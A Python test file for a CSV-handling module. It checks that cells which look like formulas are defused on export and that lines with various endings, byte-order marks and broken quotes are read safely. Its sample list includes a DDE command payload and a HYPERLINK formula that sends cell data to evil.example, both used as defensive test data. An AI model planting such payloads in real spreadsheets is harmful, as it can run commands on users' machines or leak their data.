"""CSV: nothing that we write is a formula, and nothing that we read takes the rest with it."""

from __future__ import annotations

import csv
import io

import pytest

from common import spreadsheets

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =cmd|' /C calc'!A0",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_that_we_write_begins_like_a_formula(text):
    (row,) = csv.reader(io.StringIO(spreadsheets.to_csv([[text]])))

    assert row[0].startswith("'")
    assert spreadsheets.plain(row[0]) == text


@pytest.mark.parametrize("text", ["ana@example.com", "'quoted'@example.com", "", "a=b", "'"])
def test_other_cells_stay_as_they_are(text):
    assert spreadsheets.defused(text) == text
    assert spreadsheets.plain(text) == text


@pytest.mark.parametrize("separator", ";\t,")
def test_whatever_a_program_splits_at_no_cell_is_found_inside_of_a_cell(separator):
    written = spreadsheets.to_csv([[f"x{separator}=1+1", 'say "hi"']])

    cells = next(csv.reader(io.StringIO(written), delimiter=separator))

    assert not any(cell.startswith("=") for cell in cells)


@pytest.mark.parametrize("end", [b"\n", b"\r\n", b"\r"])
@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
def test_lines_are_read_whatever_their_ends_and_with_or_without_a_mark(end, mark):
    file = io.BytesIO(mark + "á".encode() + end + b"b" + end + end + b"d")

    assert list(spreadsheets.lines_of(file)) == [(1, "á"), (2, "b"), (3, ""), (4, "d")]


def test_a_line_without_an_end_is_read_in_pieces_and_given_up():
    most = spreadsheets.LONGEST_LINE
    file = io.BytesIO(b"a\n" + b"x" * (3 * most) + b"\n" + b"y" * most + b"\nb\n")

    assert list(spreadsheets.lines_of(file)) == [(1, "a"), (2, None), (3, None), (4, "b")]


def test_bytes_that_are_not_utf8_are_marked():
    ((_, text),) = spreadsheets.lines_of(io.BytesIO("josé".encode("latin-1")))

    assert "\ufffd" in text


def test_a_quote_that_is_never_closed_spoils_its_own_line_alone():
    assert spreadsheets.cells_of('"ana@example.com;x', delimiter=";") is None
    assert spreadsheets.cells_of('"a;b"; "c"', delimiter=";") == ["a;b", "c"]
    assert spreadsheets.cells_of("'=1;b", delimiter=";") == ["=1", "b"]
